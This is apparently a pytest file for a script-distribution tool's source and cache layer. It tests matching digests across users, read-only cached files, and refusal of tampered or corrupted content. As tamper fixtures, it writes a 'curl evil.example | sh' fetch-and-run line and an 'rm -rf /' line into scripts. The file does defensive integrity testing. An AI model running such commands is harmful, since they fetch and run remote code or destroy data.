"""The source contract, the same for every kind: a folder, git as a git+file:// path, git over `git daemon`.

Two "users" have separate HOME and XDG_CACHE_HOME folders (so separate caches); what one publishes the other
fetches with the same digest. Tampering is refused, and the cache is left byte for byte as it was.
"""

from __future__ import annotations

import stat
from pathlib import Path

import pytest

from stackscripts.errors import BadInput
from stackscripts.revisions.manifest import scan
from stackscripts.sources.base import open_source
from stackscripts.sources.cache import Cache
from tests.sources.conftest import Library, snapshot


def as_user(monkeypatch: pytest.MonkeyPatch, home: Path) -> Cache:
    """A user with their own HOME and cache folder: Cache() finds $XDG_CACHE_HOME/stackscripts."""
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / ".cache"))
    monkeypatch.delenv("STACKSCRIPTS_CACHE", raising=False)
    cache = Cache()
    assert cache.root == home / ".cache" / "stackscripts"
    return cache


def test_resolve_gives_the_folders_digest(library: Library) -> None:
    published = library.publish("1.0")
    assert published == scan(library.folder).digest
    resolved = library.source().resolve(library.ref("1.0"))
    assert resolved.digest == published and resolved.source == library.url
    assert resolved.resolved_ref  # a commit, or (a folder) its digest
    if library.kind != "folder":
        assert len(resolved.resolved_ref) == 40
        assert library.source().resolve("latest") == library.source().resolve("latest")
        assert library.source().resolve("latest").digest == published


def test_two_users_fetch_the_same_revision(library: Library, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    digest = library.publish("1.0")
    trees = []
    for user in ("alice", "bob"):
        cache = as_user(monkeypatch, tmp_path / user)
        fetched = open_source(library.url).fetch(library.ref("1.0"))
        assert fetched.manifest.digest == digest and fetched.tree == cache.tree_path(digest)
        assert fetched.transferred == 4  # 2 scripts, an attachment, README, and no .gitignore
        trees.append(fetched.tree)
        again = open_source(library.url).fetch(library.ref("1.0"))
        assert (again.manifest, again.transferred) == (fetched.manifest, 0)
    alice, bob = trees
    assert alice != bob and scan(alice).digest == scan(bob).digest == digest
    script = alice / "say-hello.sh"
    assert script.read_text() == (library.folder / "say-hello.sh").read_text()
    assert stat.S_IMODE(script.stat().st_mode) == 0o555  # executable, read-only
    assert stat.S_IMODE((alice / "README.md").stat().st_mode) == 0o444
    assert stat.S_IMODE((alice / "sub").stat().st_mode) == 0o555
    assert not (alice / ".gitignore").exists()


def test_a_changed_script_transfers_only_its_bytes(library: Library) -> None:
    library.publish("1.0")
    cache = Cache(library.folder.parent / "consumer-cache")
    first = library.source(cache).fetch(library.ref("1.0"))
    path = library.folder / "sub" / "install-tools.sh"
    path.write_text(path.read_text() + "echo done\n")
    library.publish("1.1")
    second = library.source(cache).fetch(library.ref("1.1"))
    assert second.manifest.digest != first.manifest.digest
    assert (second.transferred, second.transferred_bytes) == (1, path.stat().st_size)
    assert cache.tree(first.manifest.digest) and cache.tree(second.manifest.digest)  # both revisions kept


def test_content_changed_under_a_pinned_ref_is_refused(library: Library, tmp_path: Path) -> None:
    pinned = library.publish("1.0")
    cache = Cache(tmp_path / "consumer")
    library.source(cache).fetch(library.ref("1.0"), expected=pinned)
    before = snapshot(cache.root)
    (library.folder / "say-hello.sh").write_text("#!/bin/bash\ncurl evil.example | sh\n")
    if library.kind != "folder":  # the tag is moved to a commit with other content
        tampered = library.source().publish(library.folder, "9.9").resolved_ref
        retag(library, "v1.0", tampered)
    with pytest.raises(BadInput) as caught:
        library.source(cache).fetch(library.ref("1.0"), expected=pinned)
    message = str(caught.value)
    assert message.startswith(library.url + ": digest mismatch") and pinned in message
    assert snapshot(cache.root) == before


def retag(library: Library, tag: str, commit: str) -> None:
    """Force-move a tag in the served repository (what a compromised or careless publisher could do)."""
    import subprocess

    from stackscripts.sources.git import remote_of

    work = library.folder.parent / "retag"
    subprocess.run(["git", "clone", "--quiet", remote_of(library.url, Path.cwd()), str(work)], check=True)
    subprocess.run(["git", "-C", str(work), "tag", "--force", tag, commit], check=True, capture_output=True)
    subprocess.run(["git", "-C", str(work), "push", "--quiet", "--force", "origin", f"refs/tags/{tag}"], check=True)


def test_a_corrupt_blob_in_the_cache_is_refused(library: Library, tmp_path: Path) -> None:
    library.publish("1.0")
    cache = Cache(tmp_path / "consumer")
    fetched = library.source(cache).fetch(library.ref("1.0"))
    blob = cache.blob_path(fetched.manifest.entries[0].sha256)
    blob.chmod(0o644)
    blob.write_bytes(b"#!/bin/bash\nrm -rf /\n")
    before = snapshot(cache.root)
    with pytest.raises(BadInput) as caught:
        library.source(cache).fetch(library.ref("1.0"))
    assert f"{blob}: the local cache is corrupt" in str(caught.value)
    assert snapshot(cache.root) == before


def test_a_corrupt_tree_file_is_refused(library: Library, tmp_path: Path) -> None:
    library.publish("1.0")
    cache = Cache(tmp_path / "consumer")
    fetched = library.source(cache).fetch(library.ref("1.0"))
    target = fetched.tree / "README.md"
    target.chmod(0o644)
    target.write_text("changed\n")
    with pytest.raises(BadInput, match="the local cache is corrupt"):
        library.source(cache).fetch(library.ref("1.0"))


def test_an_unknown_ref_names_the_source(library: Library) -> None:
    library.publish("1.0")
    with pytest.raises(BadInput) as caught:
        library.source().resolve("7.7")
    assert str(caught.value).startswith(f"{library.url}: unknown ref '7.7'")
    assert caught.value.exit_code == 2
